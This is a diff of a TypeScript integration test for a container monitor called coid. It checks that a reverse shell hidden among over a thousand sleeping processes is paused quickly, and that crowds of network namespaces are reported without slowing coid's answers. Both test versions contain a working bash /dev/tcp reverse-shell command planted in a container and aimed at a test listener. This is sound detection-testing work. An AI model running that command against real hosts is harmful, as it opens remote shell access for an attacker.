@@ -1,26 +1,26 @@
-// Goal: who hides in a crowd (of processes, network namespaces, descriptors) is seen as soon as anybody else, or the
-// crowd itself is told; and a crowd in one session delays nobody's answer from coid.
-// Method: real containers under a coid of their own. The crowds end with their containers.
+// Goal: an attack hidden in a crowd (of processes, network namespaces, descriptors) is found as fast as any other, or the
+// crowd itself is reported; and a crowd in one session does not delay coid's answers to others.
+// Method: real containers with a private coid. The crowds end with their containers.
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { Sampler } from '../../src/daemon/monitor/sampler.ts';
-import { Allowance, atOnce, threadTime } from '../../src/host/proc/allowance.ts';
+import { Allowance, runToEnd, threadTime } from '../../src/host/proc/allowance.ts';
 import type { AuditRecord } from '../../src/monitor/audit.ts';
 import { defaultSettings, type MonitorSettings } from '../../src/monitor/settings.ts';
-import { pace } from '../bed/pace.ts';
-import { type CoidBed, coidBed } from '../incus/coid-bed.ts';
-import { attacker } from './attacker.ts';
+import { slowdown } from '../bed/slowdown.ts';
+import { type CoidBed, makeCoidBed } from '../incus/coid-bed.ts';
+import { startAttacker } from './attacker.ts';
 import { untilAudited } from './audited.ts';
 
 const limit = { timeout: 240_000 };
-/** The detector of fork bombs is another matter, and sees crowds of thousands. */
+/** The fork bomb detector is tested elsewhere, and detects crowds of thousands. */
 const noBomb = { processes: 50_000, killGraceMs: 120_000 } as const;
 
-function watched(settings: Partial<MonitorSettings> = {}) {
+function monitorConfig(settings: Partial<MonitorSettings> = {}) {
   return { 'user.coi.monitor': JSON.stringify({ ...defaultSettings, ...noBomb, ...settings }) };
 }
 
-/** Runs it away from the exec that starts it. */
+/** Runs it detached from the exec that starts it. */
 function plant({ sh }: CoidBed, container: string, command: string, user?: 'root') {
   return sh(container, `setsid sh -c '${command}' >/dev/null 2>&1 </dev/null &`, user);
 }
@@ -37,45 +37,41 @@ function untilWatched({ coid }: CoidBed, container: string): Promise<unknown> {
 /** Ends when there are that many. */
 const sleepers = (count: number) =>
   `for i in $(seq ${count}); do sleep 3600 >/dev/null 2>&1 </dev/null & done`;
-/** Namespaces with sockets of both kinds: the first look into one walks the host's whole table of connections. */
+/** Namespaces with sockets of both kinds: the first look into one walks the host's whole connection table. */
 const namespaces = (count: number) =>
   `for i in $(seq ${count}); do unshare -n sh -c "nc -l -p 5000 & exec nc -lu -p 5000" >/dev/null 2>&1 </dev/null & done`;
 
-test(
-  'a reverse shell behind a crowd of older processes is paused as soon as any',
-  limit,
-  async () => {
-    await using bed = await coidBed();
-    await using remote = await attacker();
-    const { container, nic } = await bed.session({ config: watched() });
-    await untilWatched(bed, container);
-    await bed.sh(container, sleepers(1300));
-    await plant(bed, container, `bash -c "bash -i >& /dev/tcp/${nic.gateway}/${remote.port} 0>&1"`);
-    await remote.connected;
-    const started = performance.now();
-    await bed.lifecycle.until('instance-paused', container);
-    const tookMs = performance.now() - started;
-    assert.ok(tookMs < 4000 * (await pace()), `paused after ${Math.round(tookMs)} ms`);
-    const paused = (await records(bed, container)).filter(({ action }) => action === 'paused');
-    assert.match(paused.map(({ title }) => title).join(), /Reverse shell/i);
-  },
-);
+test('a reverse shell behind many older processes is paused as fast as any', limit, async () => {
+  await using bed = await makeCoidBed();
+  await using remote = await startAttacker();
+  const { container, nic } = await bed.session({ config: monitorConfig() });
+  await untilWatched(bed, container);
+  await bed.sh(container, sleepers(1300));
+  await plant(bed, container, `bash -c "bash -i >& /dev/tcp/${nic.gateway}/${remote.port} 0>&1"`);
+  await remote.connected;
+  const started = performance.now();
+  await bed.lifecycle.until('instance-paused', container);
+  const tookMs = performance.now() - started;
+  assert.ok(tookMs < 4000 * (await slowdown()), `paused after ${Math.round(tookMs)} ms`);
+  const paused = (await records(bed, container)).filter(({ action }) => action === 'paused');
+  assert.match(paused.map(({ title }) => title).join(), /Reverse shell/i);
+});
 
 test(
-  'a crowd of network namespaces delays no answer of coid and is told; a heavy load is not',
+  'many network namespaces delay no answer of coid and are reported; a heavy load is not',
   limit,
   async () => {
-    await using bed = await coidBed();
-    const { container } = await bed.session({ config: watched({ pauseOnHigh: false }) });
+    await using bed = await makeCoidBed();
+    const { container } = await bed.session({ config: monitorConfig({ pauseOnHigh: false }) });
     await untilWatched(bed, container);
-    // As much as forty containers of Docker and a large build.
+    // As much as forty Docker containers and a large build.
     await bed.sh(container, namespaces(40), 'root');
     await bed.sh(container, sleepers(1200));
-    // Each takes a look of its own: the first ones have the most to do, and what they leave for too long would be told by the
-    // later ones.
+    // Each is sampled separately: the first samples have the most to do, and the later ones would report whatever
+    // they left for too long.
     for (let port = 6000; port < 6008; port += 1) {
       const tookMs = await untilListed(bed, container, port);
-      assert.ok(tookMs < 5000 * (await pace()), `port ${port} after ${Math.round(tookMs)} ms`);
+      assert.ok(tookMs < 5000 * (await slowdown()), `port ${port} after ${Math.round(tookMs)} ms`);
     }
     assert.deepEqual(
       (await records(bed, container)).filter(
@@ -85,16 +81,16 @@ test(
     );
     await bed.sh(container, namespaces(300), 'root');
     const slowestMs = await slowestAnswer(bed);
-    assert.ok(slowestMs < 1000 * (await pace()), `slowest answer: ${Math.round(slowestMs)} ms`);
-    await untilAudited(bed.coid, container, ({ title }) => title === 'Too much to look at');
-    // The control: without its limits one look takes so long that everybody waits.
+    assert.ok(slowestMs < 1000 * (await slowdown()), `slowest answer: ${Math.round(slowestMs)} ms`);
+    await untilAudited(bed.coid, container, ({ title }) => title === 'Too much to check');
+    // Control: without its limits one sample takes so long that all requests wait.
     const { pid } = await bed.incus.instanceState(container);
-    const [limited, unlimited] = [lookMs(container, pid, 1), lookMs(container, pid, 1000)];
+    const [limited, unlimited] = [sampleMs(container, pid, 1), sampleMs(container, pid, 1000)];
     assert.ok(limited < 300 && unlimited > 3 * limited, `${limited} and ${unlimited} ms`);
   },
 );
 
-/** How long it takes until a new listener is written down. */
+/** Time until a new listener is logged. */
 async function untilListed(bed: CoidBed, container: string, port: number): Promise<number> {
   await plant(bed, container, `nc -lk -p ${port}`);
   const startedMs = performance.now();
@@ -105,7 +101,7 @@ async function untilListed(bed: CoidBed, container: string, port: number): Promi
 
 async function slowestAnswer({ coid }: CoidBed): Promise<number> {
   let slowestMs = 0;
-  for (let asked = 0; asked < 100; asked += 1) {
+  for (let attempts = 0; attempts < 100; attempts += 1) {
     const startedMs = performance.now();
     await coid.status();
     slowestMs = Math.max(slowestMs, performance.now() - startedMs);
@@ -113,8 +109,8 @@ async function slowestAnswer({ coid }: CoidBed): Promise<number> {
   return slowestMs;
 }
 
-/** Processor time of the first look of a new watcher, with its limits stretched. */
-function lookMs(name: string, initPid: number, factor: number): number {
+/** CPU time of the first sample of a new watcher with extended limits. */
+function sampleMs(name: string, initPid: number, factor: number): number {
   const sampler = Sampler.of(
     {
       name,
@@ -128,6 +124,6 @@ function lookMs(name: string, initPid: number, factor: number): number {
     { now: () => new Date(), elapsedMs: () => performance.now() },
   );
   const startedMs = threadTime();
-  assert.ok(sampler && atOnce(sampler.sample(new Allowance(threadTime, factor))));
+  assert.ok(sampler && runToEnd(sampler.sample(new Allowance(threadTime, factor))));
   return threadTime() - startedMs;
 }
